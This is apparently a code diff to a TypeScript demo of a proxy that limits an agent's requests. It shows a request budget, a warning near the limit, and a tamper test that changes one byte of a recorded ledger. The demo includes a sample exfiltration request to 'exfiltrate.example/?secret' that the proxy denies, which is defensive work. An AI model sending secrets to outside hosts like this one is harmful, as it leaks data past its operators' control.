@@ -82,7 +82,9 @@ async function play(options: DemoOptions, directory: string, origin: Origin): Pr
     agent: 'looper',
     logLevel: 'silent',
   }
-  const settings = settingsOf({ ...flags, policy: policyFile, data: join(directory, 'data') }, {})
+  // /tmp is in memory on many machines; what is told here need not outlive it.
+  const place = { policy: policyFile, data: join(directory, 'data'), anyFilesystem: true }
+  const settings = settingsOf({ ...flags, ...place }, {})
   const world = await openWorld({ settings, log: openLog('silent'), onSeal: () => undefined })
   print(
     `${pico.bold('1. a gate')}: agent looper may GET localhost:${origin.port}, ${requestsLimit} times a run`,
@@ -112,7 +114,7 @@ async function loop(parts: {
   const allowed = `http://localhost:${origin.port}/`
   const denied = await get(proxy, 'http://exfiltrate.example/?secret')
   print(
-    `   ${pico.red(`${denied.status} ${denied.reason}`)}  http://exfiltrate.example/ (no DNS query was sent)`,
+    `   ${pico.red(`${denied.status} ${denied.reason}`)}  http://exfiltrate.example/ denied, and no DNS query was sent`,
   )
   print(`${pico.bold('2. the agent loops')} and never stops by itself`)
   let warned = false
@@ -120,8 +122,9 @@ async function loop(parts: {
     const answer = await get(proxy, allowed)
     if (answer.status === 200) {
       const left = requestsLimit - turn
-      if (left > requestsLimit / 2) continue
-      if (!warned) print(`   ${pico.yellow(`half of the budget is spent after ${turn} requests`)}`)
+      if (turn === 1) print(`   ${pico.green('200 OK')}  ${allowed} allowed, ${left} left`)
+      if (left !== 1) continue
+      print(`   ${pico.yellow(`near the budget: ${turn} of ${requestsLimit} requests are spent`)}`)
       warned = true
       continue
     }
@@ -160,7 +163,7 @@ function verify(settings: Settings, print: (text: string) => void): Promise<numb
 
 const indented = (text: string): string => text.replace(/^/gm, '   ')
 
-/** Turns one digit of a recorded amount or time into another, in the middle of the newest segment. */
+/** Writes one letter of the first recorded refusal in upper case, in the newest segment. */
 function changeOneByte(ledger: string): { file: string; offset: number } {
   const name = readdirSync(ledger)
     .filter((one) => one.startsWith('ledger-'))
